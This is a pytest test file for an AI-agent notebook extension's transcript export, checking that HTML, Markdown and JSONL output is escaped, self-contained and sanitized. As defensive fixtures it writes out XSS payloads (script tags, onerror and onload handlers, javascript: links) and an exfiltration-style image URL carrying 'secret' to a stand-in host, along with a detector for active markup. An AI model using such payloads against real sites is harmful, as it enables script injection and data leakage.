"""Transcript rendering and export: escaped, self-contained, complete (no kernel needed)."""

from __future__ import annotations

import base64
import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from harness_magic.core.export import RunRecorder, export_runs, render_answer_html
from harness_magic.core.config import AgentConfig
from harness_magic.core.session import AgentSession

HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)>'
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\nnot-really-a-png").decode()


def run_session(tmp_path: Path, turns: list[dict]) -> tuple[AgentSession, RunRecorder]:
    script = tmp_path / "script.json"
    script.write_text(json.dumps({"turns": turns}))
    session = AgentSession(AgentConfig(model=f"scripted/{script}", sandbox="inprocess", run_dir=str(tmp_path / "runs")))
    recorder = RunRecorder()
    session.subscribe(recorder)
    return session, recorder


@pytest.fixture
def hostile_run(tmp_path: Path):
    import pandas as pd

    session, recorder = run_session(tmp_path, [
        {"text": f"Looking at {HOSTILE}", "tool_calls": [{"name": "python_interpreter", "arguments": {
            "code": f"rows = evil\nprint({HOSTILE!r})\nsave('evil_copy', rows)"}}]},
        {"text": f"Answer: {HOSTILE} and [link](javascript:alert(1))"},
    ])
    session.cache.put("evil", pd.DataFrame({HOSTILE: [HOSTILE, "ok"]}))
    result = session.ask(f"Prompt with {HOSTILE}")
    assert result.status == "completed"
    return recorder.records[-1], tmp_path


def test_html_from_model_and_data_is_never_active(hostile_run) -> None:
    record, tmp_path = hostile_run
    for page in (render_answer_html(record), export_runs([record], tmp_path / "t.html").read_text()):
        assert "<script" not in page and "<img src=x" not in page and 'href="javascript:' not in page
        assert [bad for bad in active_markup(page) if not bad.startswith("meta")] == []
        assert "&lt;script&gt;" in page


def test_html_export_is_self_contained_and_holds_code_results_snapshots(hostile_run) -> None:
    record, tmp_path = hostile_run
    page = export_runs([record], tmp_path / "t.html").read_text()
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert "http://" not in page and "https://" not in page
    assert record.run_id in page
    assert "save" in page and "evil_copy" in page
    assert "agent-snapshot-table" in page
    assert "<details" in page


def test_charts_are_embedded_as_data_uris(tmp_path: Path) -> None:
    session, recorder = run_session(tmp_path, [
        {"tool_calls": [{"name": "python_interpreter", "arguments": {
            "code": "import matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nprint('drawn')"}}]},
        {"text": "Drawn."},
    ])
    result = session.ask("Draw.")
    assert len(result.charts) == 1
    page = export_runs(recorder.records, tmp_path / "c.html").read_text()
    assert f'src="data:image/png;base64,{result.charts[0]}"' in page
    assert "data:image/png;base64," in render_answer_html(recorder.records[-1])


def test_markdown_export_fences_code_that_contains_backticks(tmp_path: Path) -> None:
    session, recorder = run_session(tmp_path, [
        {"tool_calls": [{"name": "python_interpreter", "arguments": {"code": "s = '```'\nprint(s)"}}]},
        {"text": "Printed fences."},
    ])
    session.ask("Print backticks.")
    md = export_runs(recorder.records, tmp_path / "r.md").read_text()
    assert "````python\ns = '```'\nprint(s)\n````" in md
    assert "Printed fences." in md and "**Prompt:**" in md


def test_jsonl_export_is_the_run_log(tmp_path: Path) -> None:
    session, recorder = run_session(tmp_path, [{"text": "One."}, {"text": "Two."}])
    first = session.ask("First.")
    second = session.ask("Second.")
    path = export_runs(recorder.records, tmp_path / "all.jsonl")
    records = [json.loads(line) for line in path.read_text().splitlines()]
    assert [r["run_id"] for r in records if r["type"] == "run_start"] == [first.run_id, second.run_id]
    assert path.read_text() == Path(first.run_file).read_text() + Path(second.run_file).read_text()


def test_unknown_export_format_names_the_allowed_ones(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"use one of \.jsonl, \.html, \.md"):
        export_runs([], tmp_path / "x.pdf")


def test_subagent_events_render_as_a_nested_transcript() -> None:
    from harness_magic.core.transcript.events import (AssistantMessage, RunFinished, RunStarted, SubagentEvent,
                                           ToolCallFinished, ToolCallStarted)
    from harness_magic.core.agent.result import RunResult
    from harness_magic.core.transcript.messages import Message, TextBlock, ToolResultBlock, ToolUseBlock, Usage

    recorder = RunRecorder()
    parent = ToolUseBlock(id="p1", name="run_subagent", input={"task": "Count rows"})
    child = ToolUseBlock(id="c1", name="python_interpreter", input={"code": "len(t)"})
    events = [
        RunStarted("run1", "offline/x", 5, "Delegate.", None),
        ToolCallStarted(1, parent),
        SubagentEvent("p1", RunStarted("sub1", "offline/x", 5, "Count rows", None)),
        SubagentEvent("p1", ToolCallStarted(1, child)),
        SubagentEvent("p1", ToolCallFinished(1, child, ToolResultBlock("c1", "3"), 0.01)),
        SubagentEvent("p1", AssistantMessage(2, Message("assistant", (TextBlock("There are <3> rows."),)), Usage())),
        ToolCallFinished(1, parent, ToolResultBlock("p1", "There are 3 rows."), 0.2),
        RunFinished(RunResult("completed", "Done.", 2, run_id="run1")),
    ]
    for event in events:
        recorder(event)
    tool = recorder.records[0].tools[0]
    assert tool.kind == "subagent" and tool.subagent.prompt == "Count rows"
    assert tool.subagent.tools[0].name == "python_interpreter"
    page = render_answer_html(recorder.records[0])
    assert "agent-subagent" in page and "There are &lt;3&gt; rows." in page
    assert "subagent: Count rows" in page and "python_interpreter" in page


def test_loading_the_extension_imports_neither_litellm_nor_pandas_nor_ipywidgets() -> None:
    # What keeps %load_ext cheap; its time is measured in benchmarks/bench_notebook.py (budget 500 ms).
    code = textwrap.dedent("""\
        import sys
        from IPython.core.interactiveshell import InteractiveShell
        shell = InteractiveShell.instance()
        shell.run_line_magic("load_ext", "harness_magic")
        print("litellm" in sys.modules, "pandas" in sys.modules, "ipywidgets" in sys.modules)
    """)
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True)
    litellm, pandas, widgets = out.stdout.split()
    assert (litellm, pandas, widgets) == ("False", "False", "False")


def test_terminal_ipython_prints_the_run_with_rich(tmp_path: Path) -> None:
    (tmp_path / "s.json").write_text(json.dumps({"turns": [
        {"text": "Computing.", "tool_calls": [{"name": "python_interpreter", "arguments": {"code": "print(6 * 7)"}}]},
        {"text": "The answer is **42**."},
    ]}))
    driver = textwrap.dedent("""\
        from IPython.terminal.interactiveshell import TerminalInteractiveShell
        shell = TerminalInteractiveShell.instance(colors="nocolor")
        shell.run_line_magic("load_ext", "harness_magic")
        shell.run_line_magic("config", 'AgentMagics.sandbox = "inprocess"')
        shell.run_cell("%%agent -m scripted/s.json\\nWhat is six times seven?")
    """)
    out = subprocess.run([sys.executable, "-c", driver], cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr
    text = out.stdout
    assert "Computing." in text and "python_interpreter" in text and "print(6 * 7)" in text
    assert "42" in text and "model scripted/s.json" in text and "run " in text


# -- model text and data never become active HTML; people see tables -------------------------

EXFIL = "http://127.0.0.1:9/leak?d=secret"
MODEL_MARKDOWN = (
    f"**Bold** {HOSTILE} ![x]({EXFIL}) [click](javascript:alert(3)) [ok](https://example.org)\n\n"
    f"[ref]: javascript:alert(4)\n\n<iframe src='{EXFIL}'></iframe> <a href='{EXFIL}' onclick='x()'>a</a>\n\n"
    "```\nunclosed fence"
)


def test_markdown_renders_but_raw_html_script_and_external_images_do_not() -> None:
    from harness_magic.core.text.safe_markdown import markdown_to_html

    out = markdown_to_html(MODEL_MARKDOWN)
    assert "<strong>Bold</strong>" in out and '<a href="https://example.org" rel="noopener noreferrer">ok</a>' in out
    assert active_markup(out) == [] and "image not loaded" in out
    assert {tag for tag, _ in tags_of(out)} <= {"p", "strong", "a", "em", "pre", "code"}
    data_png = f"![chart](data:image/png;base64,{PNG})"
    assert f'src="data:image/png;base64,{PNG}"' in markdown_to_html(data_png)
    assert "<img" not in markdown_to_html("![svg](data:image/svg+xml;base64,PHN2Zz4=)")


def test_sanitizer_drops_handlers_styles_and_remote_sources_from_any_html() -> None:
    from harness_magic.core.text.safe_markdown import sanitize_html

    out = sanitize_html(f'<p style="x" class="jp-x" onmouseover="a()">t</p><img src="{EXFIL}" onerror="b()">'
                        f'<a href="JaVaScRiPt:c()">l</a><a href="//evil.example/x">p</a><svg onload="d()"></svg>')
    assert out.startswith("<p>t</p>") and EXFIL not in out and active_markup(out) == []
    assert all(attrs in ([], [("rel", "noopener noreferrer")]) for tag, attrs in tags_of(out) if tag != "img")


def test_markdown_export_makes_model_html_images_and_script_links_literal(tmp_path: Path) -> None:
    from harness_magic.core.text.safe_markdown import escape_markdown_html, markdown_to_html

    md = escape_markdown_html(MODEL_MARKDOWN + "\n")
    assert "<script" not in md and "<iframe" not in md and "<a href" not in md
    assert f"!\\[x]({EXFIL})" in md and "[click]\\(javascript:" in md and "\\[ref]: javascript:" in md
    assert "[ok](https://example.org)" in md
    assert md.rstrip().endswith("```"), "an unclosed fence is closed so it cannot swallow what follows"
    rendered = markdown_to_html(md)  # what a Markdown viewer would make of the export
    assert EXFIL not in rendered.replace(f"![x]({EXFIL})", "") or "<img" not in rendered
    assert "`<b>kept</b>`" in escape_markdown_html("code `<b>kept</b>` stays")


def test_markdown_export_of_a_hostile_run_holds_no_raw_html(hostile_run) -> None:
    record, tmp_path = hostile_run
    md = export_runs([record], tmp_path / "t.md").read_text()
    outside_fences = "\n".join(part for i, part in enumerate(md.split("```")) if i % 2 == 0)
    assert "<script" not in outside_fences and "<img" not in outside_fences
    assert "&lt;script&gt;" in outside_fences
    assert '"type": "dataframe"' not in md, "snapshots show as tables, not JSON"


def test_export_refuses_a_missing_directory_and_creates_nothing(hostile_run) -> None:
    record, tmp_path = hostile_run
    with pytest.raises(FileNotFoundError, match="does not exist"):
        export_runs([record], tmp_path / "no" / "such" / "t.html")
    assert not (tmp_path / "no").exists()


def test_final_form_shows_answer_chart_and_snapshot_once_and_model_text_behind_a_click(tmp_path: Path) -> None:
    session, recorder = run_session(tmp_path, [
        {"text": "Pivoting.", "tool_calls": [{"name": "python_interpreter", "arguments": {"code": (
            "import pandas as pd, numpy as np\n"
            "df = pd.DataFrame({'y': np.repeat([2022, 2023], 40), 'q': np.tile(np.repeat(range(1, 5), 10), 2),"
            " 'r': [f'r{i:02}' for i in range(16)] * 5, 'v': np.arange(80.0)})\n"
            "save('pivot', df.pivot_table(index=['y', 'q'], columns='r', values='v'))")}}]},
        {"text": "The **answer**."},
    ])
    result = session.ask("Pivot it.")
    record = recorder.records[-1]
    page = render_answer_html(record)
    assert page.count("<strong>answer</strong>") == 1, "the answer is not repeated in the transcript"
    assert page.count("agent-footer") == 1
    assert "agent-snapshot-table" in page and "+4 more columns" in page and "+3 more rows" in page
    assert "2022" in page and "[2022, 1]" not in page.split("agent-model-saw")[0]
    tool_text = record.tools[0].result
    assert "Snapshot: {" in tool_text
    assert html_escape(tool_text) in page.split('class="agent-model-saw"', 1)[1], "exact model text one click away"
    visible = page.split('class="agent-model-saw"', 1)[0]
    assert '"type": "dataframe"' not in visible and "Snapshot: {" not in visible
    assert result.status == "completed"


def tags_of(page: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """Every start tag of ``page`` with its attributes, as a browser's tokenizer sees them."""
    from html.parser import HTMLParser

    found: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Collect().feed(page)
    return found


def active_markup(page: str) -> list[str]:
    """What in ``page`` could run code or load something: scripts, frames, handlers, non-data sources."""
    bad = []
    for tag, attrs in tags_of(page):
        if tag in ("script", "iframe", "object", "embed", "svg", "form", "base", "link", "meta", "style"):
            bad.append(tag)
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or (name in ("src", "srcset", "poster") and not value.startswith("data:image/")):
                bad.append(f"{tag} {name}={value}")
            if name in ("href", "action", "formaction") and not value.startswith(("http://", "https://", "mailto:", "#")):
                bad.append(f"{tag} {name}={value}")
    return bad


def html_escape(text: str) -> str:
    import html

    return html.escape(text)


def test_snapshot_tables_show_levels_dtypes_hidden_columns_and_series_labels() -> None:
    import numpy as np
    import pandas as pd

    from harness_magic.core.cache.snapshot import make_snapshot
    from harness_magic.core.text.snapshot_view import snapshot_table, snapshot_text

    cols = pd.MultiIndex.from_product([["sum", "mean"], [f"c{i}" for i in range(10)]], names=[None, "region"])
    frame = pd.DataFrame(np.arange(36 * 20, dtype=float).reshape(36, 20) * 1234.5678,
                         index=pd.MultiIndex.from_product([[2022, 2023], range(1, 19)], names=["year", "q"]),
                         columns=cols)
    table = snapshot_table("pivot", make_snapshot(frame))
    assert table.index_names == ["year", "q"]
    assert table.rows[0][0] == ["2022", "1"] and table.rows[1][0] == ["", "2"], "outer level blanked when repeated"
    assert table.header_rows[0][:2] == ["sum", ""] and table.header_rows[1][:2] == ["c0", "c1"]
    assert table.dtypes[0] == "float64" and table.numeric[0]
    assert table.rows[1][1][1] == "25,925.92"
    assert table.notes == ["+31 more rows", "+8 more columns"]
    series = snapshot_text("s", make_snapshot(pd.Series([1.5, None], index=pd.Index(["a", "b"], name="k"), name="val")))
    assert series.splitlines()[1].split() == ["k", "val"] and "a" in series and "1.50" in series and "—" in series
    hostile = snapshot_table("h", make_snapshot(pd.DataFrame({HOSTILE: [HOSTILE]})))
    from harness_magic.core.text.snapshot_view import snapshot_html

    page = snapshot_html("h", make_snapshot(pd.DataFrame({HOSTILE: [HOSTILE]})))
    assert "<script" not in page and "<img" not in page and hostile.rows[0][1] == [HOSTILE]


def test_notices_name_their_level_only_when_it_is_not_info() -> None:
    from harness_magic.core.export import RunRecord, render_markdown_document, render_run_html

    record = RunRecord(run_id="r1", model="m")
    record.items += [("notice", "info", "sandbox started · 1.20 s"), ("notice", "warning", "Denied x (write): <no>")]
    page = render_run_html(record)
    assert ">sandbox started · 1.20 s</div>" in page and "info:" not in page
    assert "warning: Denied x (write): &lt;no&gt;" in page
    markdown = render_markdown_document([record])
    assert "> sandbox started · 1.20 s" in markdown and "info:" not in markdown and "> warning: Denied" in markdown
